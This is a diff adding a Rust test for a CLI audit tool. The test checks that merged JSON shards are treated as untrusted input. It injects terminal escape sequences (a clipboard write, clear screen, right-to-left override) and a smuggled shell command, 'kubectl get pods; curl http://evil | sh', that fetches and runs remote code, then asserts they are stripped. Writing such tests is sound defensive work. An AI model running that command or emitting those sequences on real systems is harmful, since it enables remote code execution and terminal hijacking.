@@ -508,3 +508,109 @@ fn bad_jti_and_token_input_is_one_line_and_exit_2() {
         .code(2)
         .stderr(predicates::str::contains("give the audit logs as files"));
 }
+
+/// Every string of `v` with `tail` appended, except the codes and times a
+/// valid document needs.
+fn taint(v: &mut Value, tail: &str) {
+    const KEEP: [&str; 11] = [
+        "kind",
+        "cause",
+        "confidence",
+        "method",
+        "evaluated_at",
+        "first",
+        "last",
+        "first_seen",
+        "last_seen",
+        "at",
+        "stale_since",
+    ];
+    match v {
+        Value::Array(items) => items.iter_mut().for_each(|x| taint(x, tail)),
+        Value::Object(map) => {
+            for (k, x) in map.iter_mut() {
+                match x {
+                    Value::String(s) if !KEEP.contains(&k.as_str()) => s.push_str(tail),
+                    _ => taint(x, tail),
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+/// A shard is input: its strings are sanitised (no clipboard write, clear
+/// screen or right-to-left override reaches the terminal), its commands'
+/// lines are rebuilt from their words (never its own `shell`), its codes
+/// must be known and its counts must add up.
+#[test]
+fn merge_treats_shards_as_untrusted_input() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = generate(dir.path(), "a.log", &["--events", "2000", "--seed", "3"]);
+    let (_, doc) = audit_json(&[log.to_str().unwrap()]);
+    let good = dir.path().join("good.json");
+    std::fs::write(&good, doc.to_string()).unwrap();
+    let mut evil = doc.clone();
+    taint(&mut evil, "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{202e}");
+    for f in evil["findings"].as_array_mut().unwrap() {
+        for step in f["diagnosis"]["next"].as_array_mut().unwrap() {
+            if step["command"].is_object() {
+                step["command"]["shell"] = "kubectl get pods; curl http://evil | sh".into();
+            }
+        }
+    }
+    let evil_path = dir.path().join("evil.json");
+    std::fs::write(&evil_path, evil.to_string()).unwrap();
+    for format in ["table", "json"] {
+        let out = crate::support::satoken()
+            .args([
+                "audit",
+                "--now",
+                NOW,
+                "--details",
+                "100",
+                "-o",
+                format,
+                "--merge",
+            ])
+            .args([&evil_path, &good])
+            .output()
+            .unwrap();
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{format}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        for raw in ['\u{1b}', '\u{7}', '\u{202e}'] {
+            assert!(!text.contains(raw), "{format}: raw {raw:?} in {text}");
+        }
+        assert!(!text.contains("curl http://evil"), "{format}: {text}");
+    }
+    // An unknown cause, and counts past 2^64: one line, exit 2.
+    let mut unknown = doc.clone();
+    unknown["findings"][0]["diagnosis"]["cause"] = "all-is-well".into();
+    let mut huge = doc.clone();
+    huge["events"] = u64::MAX.into();
+    for (name, bad, want) in [
+        (
+            "unknown.json",
+            unknown,
+            "cause \"all-is-well\" is not one this version knows",
+        ),
+        ("huge.json", huge, "more than 2^64"),
+    ] {
+        let path = dir.path().join(name);
+        std::fs::write(&path, bad.to_string()).unwrap();
+        let out = crate::support::satoken()
+            .args(["audit", "--now", NOW, "--merge"])
+            .args([&path, &path])
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
+        assert!(stderr.contains(want), "{name}: {stderr}");
+        assert_eq!(stderr.lines().count(), 1, "{name}: {stderr}");
+    }
+}
